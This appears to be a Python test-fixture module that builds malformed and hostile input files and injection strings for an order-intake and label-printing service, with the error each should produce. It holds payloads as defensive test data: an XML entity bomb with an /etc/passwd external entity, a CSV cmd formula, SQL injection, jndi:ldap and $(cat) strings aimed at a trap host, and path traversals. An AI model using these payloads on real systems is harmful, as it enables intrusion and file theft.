"""Files with every fault that the fault matrix names, with what must come of each; and texts that want to be more."""

import json
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

from service.intake.order_file import dump_shipment
from service.model import Shipment
from tests.builders import a_line
from tests.conftest import CORPORA, ROOT
from tests.order_documents import as_csv, as_json, as_lines, flat_rows
from tests.prove.inputs import SHOWN, Place
from tests.prove.orders import MARKER, Dropped, Orders
from tests.prove.traps import Traps

PRINTED = ("completed",)
FEEDS = ROOT / "tests" / "feeds"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file, what is wrong with it, and the codes that its notes and refusals may have."""

    what: str
    drop: Dropped
    ends: tuple[str, ...]


def hostile_files(orders: Orders) -> list[Hostile]:
    """One of each; their names and customers do not come again."""
    made = [*_json(orders), *_csv(orders), *_feeds(orders), *_large(orders), *_foreign()]
    return [replace(each, drop=replace(each.drop, name=_numbered(each.drop.name, n))) for n, each in enumerate(made)]


def _numbered(name: str, number: int) -> str:
    stem, _, ending = name.rpartition(".")
    return f"{stem}-{number:03}.{ending}"


def _hostile(what: str, content: bytes, *ends: str, name: str = "a.json", taken: tuple[Shipment, ...] = ()) -> Hostile:
    return Hostile(what, Dropped(name, content, taken), ends)


# JSON ----------------------------------------------------------------------------------------------------------------


def _json(orders: Orders) -> Iterator[Hostile]:
    good = as_json(dump_shipment(orders.shipment("en"))).decode()

    def spoilt(old: str, new: str) -> bytes:
        assert old in good, old
        return good.replace(old, new, 1).encode()

    quantity, price = '"quantity": 1', '"unit_price": "4.95"'
    yield _hostile("a name twice", spoilt(quantity, f"{quantity}, {quantity}"), "invalid-json")
    for number in ("NaN", "Infinity", "-Infinity", "1e400", "9" * 400, "1e1000000"):
        yield _hostile(f"the number {number[:9]}", spoilt(quantity, f'"quantity": {number}'), "invalid-json")
    for number in ("-1", "0", "1.0", "1e2", "10000000", '"1"', "true", "null", "[1]"):
        yield _hostile(f"{number} pieces", spoilt(quantity, f'"quantity": {number}'), "invalid-order")
    for amount in ("4.95", '"1e400"', '"NaN"', '"-1"', '"4,95"', '"１"', '"0x10"', '"99999999"'):
        yield _hostile(f"a price of {amount}", spoilt(price, f'"unit_price": {amount}'), "invalid-order")
    yield _hostile("100,000 brackets", b"[" * 100_000, "invalid-json", "incomplete")
    yield _hostile("nested 40 deep", spoilt(quantity, f'"quantity": {"[" * 40}{"]" * 40}'), "invalid-json")
    for encoding in ("utf-16", "utf-16-be", "utf-32"):
        yield _hostile(encoding, good.encode(encoding), "wrong-encoding")
    yield _hostile("Windows' encoding", spoilt(MARKER, f"{MARKER} Müller").decode().encode("cp1252"), "wrong-encoding")
    for escape in ("\\u0000", "\\ud800", "\\udfff\\ud800", "\\u001b[31m", "\\u0085"):
        yield _hostile(f"{escape} in a name", spoilt(MARKER, f"{MARKER}{escape}"), "invalid-order")
    yield _hostile("a zero byte in a name", spoilt(MARKER, f"{MARKER}\0"), "invalid-json")
    yield _hostile("zero bytes behind it", good.encode() + b"\0" * 512, "incomplete")
    yield _hostile("zero bytes alone", b"\0" * 4096, "incomplete")
    yield _hostile("nothing", b"", "incomplete")
    yield _hostile("cut in the middle", good.encode()[: len(good) // 2], "incomplete")
    yield _hostile("a list", f"[{good}]".encode(), "unknown-format")
    yield _hostile("two orders", f"{good}{good}".encode(), "invalid-json")
    marked = orders.shipment("en")
    with_mark = b"\xef\xbb\xbf" + as_json(dump_shipment(marked))
    yield _hostile("a byte order mark", with_mark, *PRINTED, taken=(marked,))


# CSV -----------------------------------------------------------------------------------------------------------------


def _csv(orders: Orders) -> Iterator[Hostile]:
    good = as_csv(_rows(orders.shipment("en"))).decode()
    lines = good.splitlines(keepends=True)

    def spoilt(what: str, content: bytes, *ends: str) -> Hostile:
        return _hostile(what, content, *ends, name="a.csv")

    yield spoilt("a zero byte", good.replace(MARKER, f"{MARKER}\0", 1).encode(), "invalid-csv")
    yield spoilt("an unclosed quote", good.replace(MARKER, f'"{MARKER}', 1).encode(), "invalid-csv", "incomplete")
    yield spoilt("text behind a quote", good.replace(MARKER, f'"{MARKER}"x', 1).encode(), "invalid-csv")
    endless = good.replace(MARKER, "x" * 131_073, 1).encode()
    yield spoilt("a value of 131,073 characters", endless, "invalid-csv")
    ragged = ("invalid-csv", "incomplete-shipment")  # the row, and what it was of
    yield spoilt("a row too long", "".join((*lines[:-1], lines[-1].rstrip() + ",1,2\r\n")).encode(), *ragged)
    yield spoilt("a row too short", "".join((*lines[:-1], lines[-1].rpartition(",")[0] + "\r\n")).encode(), *ragged)
    yield spoilt("the last row missing", "".join(lines[:-1]).encode(), "incomplete", "incomplete-shipment")
    yield spoilt("a header alone", lines[0].encode(), "incomplete")
    yield spoilt("no header", "".join(lines[1:]).encode(), "invalid-csv")
    yield spoilt("semicolons", good.replace(",", ";").encode(), "invalid-csv")
    yield spoilt("UTF-16", good.encode("utf-16"), "wrong-encoding")
    yield spoilt("Windows' encoding", good.replace(MARKER, f"{MARKER}é", 1).encode("cp1252"), "wrong-encoding")
    whole, formula = orders.shipment("en"), orders.shipment("en")
    cells = replace(formula, lines=(a_line(description='=cmd|" /C calc"!A0', sku="@SUM(1+1)"),))
    content = as_csv([*_rows(whole), *_rows(cells)])
    yield Hostile("formulas", Dropped("formulas.csv", content, (whole, cells)), PRINTED)
    if (folder := CORPORA / "text" / "csv-spectrum" / "csvs").is_dir():
        for path in sorted(folder.glob("*.csv")):
            yield _hostile(f"csv-spectrum {path.name}", path.read_bytes(), "invalid-csv", "incomplete", name=path.name)


def _rows(shipment: Shipment) -> list[dict[str, str]]:
    """Of two lines of goods at least."""
    first, *_ = shipment.lines
    lines = (first, replace(first, sku="second", description="Second"))
    return flat_rows(json.loads(as_json(dump_shipment(replace(shipment, lines=lines)))))


# Feeds ---------------------------------------------------------------------------------------------------------------


def _feeds(orders: Orders) -> Iterator[Hostile]:
    """Hostile values in the exports of other programs, where they are not yet ours."""
    for what, place, value, ends in (
        ("an endless price", ("line_items", 0, "price"), "1e400", ("invalid-order",)),
        ("a price that is a list", ("line_items", 0, "price"), ["1"], ("invalid-order",)),
        ("pieces below nothing", ("line_items", 0, "quantity"), -1, ("invalid-order",)),
        ("pieces of a text", ("line_items", 0, "quantity"), "DROP TABLE", ("invalid-order",)),
        ("a customer of no kind", ("customer",), 7, PRINTED),  # as a guest
        ("a date that is none", ("created_at",), "2026-02-30T25:61:61+99:99", ("invalid-order",)),
        ("no address", ("shipping_address",), None, ("invalid-order",)),
        ("an order's number with a path", ("order_number",), "../../1001", ("invalid-order",)),
        ("a name with an escape", ("shipping_address", "name"), "Quill\u001b[31mvex", ("invalid-order",)),
        ("lines that are no list", ("line_items",), {"id": 1}, ("invalid-order",)),
        ("no parcels", ("fulfillments",), [], ("invalid-order", "incomplete", "unknown-format")),
    ):
        shipment = orders.shipment("en")
        document = json.loads((FEEDS / "shopify-partial.json").read_bytes())
        holder: Any = document.get("order", document)
        for one in (holder, *holder.get("fulfillments", ())):
            _put(one, ("order_number",), shipment.order.order_id)
            _put(one, ("shipping_address", "name"), f"{MARKER} {shipment.order.order_id}")
            _put(one, place, value)
        parcels = (replace(shipment, of=2, final=False), replace(shipment, number=2, of=2))
        taken = parcels if ends == PRINTED else ()
        yield _hostile(f"shopify: {what}", as_json(document), *ends, name="shopify-a.json", taken=taken)
    yield from _lager()


def _lager() -> Iterator[Hostile]:
    lager = (FEEDS / "lager-november.csv").read_bytes()
    head, _, rows = lager.partition(b"\n")
    for what, content in (
        (
            "an amount in English",
            rows.replace(b",", b"."),
        ),
        ("UTF-8 for Windows' encoding", rows),
        ("commas for semicolons", rows.replace(b";", b",")),
        ("a quote that is not closed", b'"' + rows),
        ("zero bytes", rows.replace(b";", b";\0", 3)),
    ):
        ends = ("invalid-order", "invalid-csv", "incomplete", "incomplete-shipment", "wrong-encoding", "unknown-format")
        whole = lager.decode("cp1252").encode() if content is rows else head + b"\n" + content
        yield _hostile(f"lager: {what}", whole, *ends, name="lager-a.csv")


def _put(document: Any, place: Place, value: object) -> None:
    for key in place[:-1]:
        document = document.get(key) if isinstance(document, dict) else document[key]
        if not document:
            return
    if isinstance(document, list) or place[-1] in document:
        document[place[-1]] = value


# Too much ------------------------------------------------------------------------------------------------------------


def _large(orders: Orders) -> Iterator[Hostile]:
    def with_text(text: str) -> tuple[Shipment, bytes]:
        shipment = replace(orders.shipment("en"), lines=(a_line(description=text),))
        return shipment, as_json(dump_shipment(shipment))

    for what, text in (("200,000 words", "word " * 200_000), ("a word of 2 MB", "x" * 2_000_000)):
        yield _hostile(what, with_text(text)[1], "invalid-order")
    for what, text in (("a word of 300", "x" * 300), ("300 marks on a letter", "a" + "\u0300" * 290)):
        shipment, content = with_text(text)
        yield _hostile(what, content, "does-not-fit", "glyph-missing", *PRINTED, taken=(shipment,))
    crowd = orders.shipment("en")
    whole = replace(crowd, lines=tuple(a_line(sku=f"{number}", description="Cup") for number in range(1500)))
    yield _hostile("1,500 lines", as_json(dump_shipment(whole)), *PRINTED, "render-failed", taken=(whole,))
    many = dump_shipment(crowd) | {"lines": [dump_shipment(crowd)["lines"][0]] * 20_000}
    yield _hostile("20,000 lines", as_json(many), "invalid-order")
    rows = flat_rows(dump_shipment(replace(crowd, lines=crowd.lines[:1])))
    table = [row | {"line": f"{number}", "lines_total": "20000"} for row in rows for number in range(1, 20_001)]
    yield _hostile("20,000 rows", as_csv(table), "invalid-order", "invalid-csv", name="a.csv")
    yield _hostile("50,000 lines of rubbish", b"{}\n" * 50_000, "unknown-format", name="a.jsonl")
    codes = orders.shipment("en")
    longest = replace(codes, order=replace(codes.order, order_id="Z" * 20, customer=_with_code(codes, "%" * 40)))
    voucher = {"voucher": {"code": "%&/?" * 10, "percent": 5}}
    content = as_lines(dump_shipment(_marked(longest)) | voucher)
    yield Hostile("codes too long for a QR code", Dropped("codes.jsonl", content, (_marked(longest),)), PRINTED)


def _with_code(shipment: Shipment, code: str) -> Any:
    return replace(shipment.order.customer, referral_code=code, status="ambassador")


def _marked(shipment: Shipment) -> Shipment:
    mark = f"{MARKER} {shipment.order.order_id}"
    return replace(
        shipment, order=replace(shipment.order, delivery_address=replace(shipment.order.delivery_address, name=mark))
    )


def _foreign() -> Iterator[Hostile]:
    bomb = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    xml = f'<?xml version="1.0"?><!DOCTYPE o [<!ENTITY l0 "lol">{bomb}<!ENTITY x SYSTEM "file:///etc/passwd">]><o>&l9;&x;</o>'
    yield _hostile("XML with entities", xml.encode(), "unknown-format", name="a.xml")
    yield _hostile("XML that says it is JSON", xml.encode(), "invalid-json")
    yield _hostile("200,000 elements deep", b"<a>" * 200_000, "unknown-format", name="b.xml")
    yield _hostile(
        "a program", Path("/bin/true").read_bytes(), "invalid-json", "wrong-encoding", "invalid-csv", "incomplete"
    )
    yield _hostile("a PDF", b"%PDF-1.7\n1 0 obj\n", "unknown-format", name="a.pdf")


# Injection -----------------------------------------------------------------------------------------------------------


def injections(traps: Traps) -> list[tuple[Place, str]]:
    """Texts that would have something opened, fetched, drawn or run, in the fields that are shown or look things up."""
    there, name = traps.folder, traps.names[0]
    long = (
        f"<img src=file://{there}/{name}>",
        f'<img src="http://{traps.address}/a.png"/>',
        f'<a href="http://{traps.address}/">x</a>',
        f"<para><font name='{there}/trap.ttf'>x</font></para>",
        f"url(http://{traps.address}/x.svg)",
        f"[[include {there}/trap.txt]] \\input{{{there}/trap.txt}}",
        f"{{{{ ''.__class__ }}}} ${{jndi:ldap://{traps.address}/a}} $(cat {there}/trap.txt)",
        "<b>bold</b> &lt;&amp;&#65; <br/> <!-- x --> ]]>",
        "{ $name } { -brand } %(name)s {0.__class__} %s %n",
        "'; DROP TABLE note; -- ",
        f"@{there}/trap.txt",
    )
    paths = (
        *(f"../{name}", f"../../{name}", f"x/../{name}", f"{there}/{name}", f"file://{there}/{name}", "/dev/zero"),
        *(
            name,
            name.removesuffix(".jpg"),
            f"..\\{name}",
            "%2e%2e%2ftrap",
            "．．／trap",
            "..",
            "~/trap",
            "a" * 64,
            "CON",
            "-rf",
        ),
    )
    shown = [place for place in SHOWN if place != ("order_id",)]
    looked_up: list[Place] = [("lines", 0, "sku"), ("lines", 0, "picture"), ("lines", 0, "category")]
    looked_up += [("recommendations", 0, "sku"), ("recommendations", 0, "picture")]
    return [(place, text) for place in shown for text in long] + [
        (place, path) for place in looked_up for path in paths
    ]
